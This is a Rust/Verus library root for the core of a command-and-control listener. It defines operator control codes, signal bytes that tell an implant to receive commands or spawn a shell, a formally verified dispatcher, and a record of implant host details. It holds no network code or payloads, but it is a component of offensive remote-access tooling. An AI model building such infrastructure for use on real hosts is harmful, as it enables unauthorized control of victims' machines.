//! Core of a command-and-control listener: the listener state machine, the
//! cross-thread command mailbox, and the interact-session command dispatcher.
//!
//! The library holds the decision logic only. Network sockets, threads and the
//! mutex that guards the shared mailbox live in the surrounding program, which
//! feeds each received datagram and each polled control code into the step
//! functions defined here and performs the sends they prescribe.

pub mod codec;
pub mod decimal;
pub mod handshake;
pub mod laws;
pub mod listener;
pub mod mailbox;
pub mod session;

use vstd::prelude::*;

verus! {

/// Control code written by the operator: request listener status/info.
pub const CC_INFO: u8 = 1;

/// Control code written by the operator: stop listening.
pub const CC_STOP: u8 = 2;

/// Control code written by the operator: release the current peer.
pub const CC_RELEASE: u8 = 3;

/// Control code written by the operator: send the queued command payload.
pub const CC_SEND: u8 = 4;

/// Control code written by the operator: start an interactive shell.
pub const CC_SHELL: u8 = 5;

/// Control code written by the operator: terminate the interactive shell.
pub const CC_SHELL_END: u8 = 6;

/// Signal byte sent to the peer: a command payload follows.
pub const SIG_DATA_FOLLOWS: u8 = 1;

/// Signal byte sent to the peer: spawn a shell and enter pass-through mode.
pub const SIG_ENTER_SHELL: u8 = 2;

/// Signal byte sent to the peer: go dormant, acknowledged graceful release.
pub const SIG_RELEASE: u8 = 69;

/// Error taxonomy of the core.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CoreError {
    /// A declared hook (DNS/HTTP codec, shell relay) has no implementation;
    /// callers must see an explicit failure, never a silent no-op.
    NotSupported,
    /// A control code outside the dispatcher's table was read; the caller
    /// decides whether to ignore or report it.
    UnknownControlCode(u8),
    /// A protocol name outside the transport table was requested.
    UnsupportedProtocol,
}

/// The operator's intent behind one control-code byte.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ControlCommand {
    /// Code 1: report listener status/info into the response slot.
    StatusInfo,
    /// Code 2: stop listening, release the transport.
    StopListening,
    /// Code 3: release the current peer.
    ReleasePeer,
    /// Code 4: send the queued command payload to the peer.
    SendQueued,
    /// Code 5: start an interactive shell with the peer.
    StartShell,
    /// Code 6: terminate the interactive shell.
    EndShell,
    /// Any other byte: no recognized operation.
    Unknown(u8),
}

/// The dispatcher's table: the meaning of each control-code byte.
pub open spec fn spec_dispatch(code: u8) -> ControlCommand {
    if code == CC_INFO {
        ControlCommand::StatusInfo
    } else if code == CC_STOP {
        ControlCommand::StopListening
    } else if code == CC_RELEASE {
        ControlCommand::ReleasePeer
    } else if code == CC_SEND {
        ControlCommand::SendQueued
    } else if code == CC_SHELL {
        ControlCommand::StartShell
    } else if code == CC_SHELL_END {
        ControlCommand::EndShell
    } else {
        ControlCommand::Unknown(code)
    }
}

/// Pure mapping from a control-code byte to the operator command it stands
/// for; shared by the listener loop and the interact session.
pub fn dispatch(code: u8) -> (cmd: ControlCommand)
    ensures
        cmd == spec_dispatch(code),
{
    match code {
        1 => ControlCommand::StatusInfo,
        2 => ControlCommand::StopListening,
        3 => ControlCommand::ReleasePeer,
        4 => ControlCommand::SendQueued,
        5 => ControlCommand::StartShell,
        6 => ControlCommand::EndShell,
        _ => ControlCommand::Unknown(code),
    }
}

/// True of a byte sequence whose every byte is zero.
pub open spec fn all_zero(s: Seq<u8>) -> bool {
    forall|i: int| 0 <= i < s.len() ==> s[i] == 0
}

/// Returns true if the vector is all zero. An all-zero buffer counts as an
/// empty payload slot: the operator program pre-fills the mailbox with zeros.
pub fn vec_is_zero(buffer: &Vec<u8>) -> (r: bool)
    ensures
        r == all_zero(buffer@),
{
    let mut i: usize = 0;
    while i < buffer.len()
        invariant
            0 <= i <= buffer@.len(),
            forall|k: int| 0 <= k < i ==> buffer@[k] == 0,
        decreases buffer@.len() - i,
    {
        if buffer[i] != 0 {
            return false;
        }
        i = i + 1;
    }
    true
}

/// Host facts gathered on the implant side; carried verbatim, never parsed.
#[derive(Debug, PartialEq, Eq)]
pub struct SystemInfo {
    pub arch: String,
    pub os: String,
    pub hostname: String,
}

impl SystemInfo {
    /// Packs the three host facts.
    pub fn new(arch: String, os: String, hostname: String) -> (s: SystemInfo)
        ensures
            s.arch == arch,
            s.os == os,
            s.hostname == hostname,
    {
        SystemInfo { arch, os, hostname }
    }
}

} // verus!
